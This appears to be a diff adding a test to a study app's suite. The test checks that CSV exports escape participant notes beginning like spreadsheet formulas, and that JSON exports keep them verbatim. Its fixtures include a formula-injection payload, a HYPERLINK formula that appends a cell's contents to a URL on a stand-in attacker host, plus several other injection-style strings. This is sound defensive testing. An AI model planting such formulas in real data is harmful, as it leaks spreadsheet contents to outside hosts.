@@ -615,3 +615,53 @@ describe(`what a study keeps after a withdrawal stays as it was (${testBackend})
     assert.ok(!(await csv(store, lee, study.id, "check_ins", at(20))).includes("fine"));
   });
 });
+
+describe(`a study's CSV never hands a spreadsheet a participant's formula (${testBackend})`, () => {
+  let store: Store;
+  after(() => store?.close());
+
+  test("text cells that start like a formula get a ' first; JSON keeps them as written", async () => {
+    store = await openTestStore();
+    const made = async (username: string) => {
+      const user = await createUser(store.db, {
+        username,
+        role: "member",
+        createdAt: T0.toString(),
+      });
+      await saveProfile(store.db, user.id, profile(), T0.toString());
+      return user.id;
+    };
+    const lee = await made("lee");
+    const ana = await made("ana");
+    const study = await createStudy(
+      store,
+      lee,
+      { ...studyInput, consent: { ...consentV1, collects: ["checkIns", "notes"] } },
+      T0,
+    );
+    const [invite] = await createInvitations(store, lee, study.id, { count: 1 }, T0);
+    await joinStudy(store, ana, { code: invite?.code ?? "", consentVersion: 1 }, T0);
+    const notes = [
+      '=HYPERLINK("https://evil.example/?"&A1,"click")',
+      "+1+1",
+      "-2+3",
+      "@SUM(A1:A9)",
+      "\t=1+1",
+      "fine = good",
+    ];
+    for (const [i, note] of notes.entries()) {
+      await logCheckIn(store, ana, { at: at(1, i), mood: 5, anxiety: 5, note }, at(2));
+    }
+    const text = await csv(store, lee, study.id, "check_ins", at(20));
+    const cells = text
+      .split("\r\n")
+      .slice(1, -1)
+      .map((line) => line.split(",").at(-1));
+    assert.deepEqual(cells.slice(1), ["'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "fine = good"]);
+    assert.ok(text.includes(`"'=HYPERLINK(""https://evil.example/?""&A1`), text);
+    assert.ok(!/(^|,)[=+\-@]/mu.test(text.split("\r\n").slice(1).join("\r\n")), text);
+    assert.ok(text.includes(",5,5,"), "numbers are not touched");
+    const json = await csv(store, lee, study.id, "check_ins", at(20), "json");
+    for (const note of notes) assert.ok(json.includes(JSON.stringify(note)), note);
+  });
+});
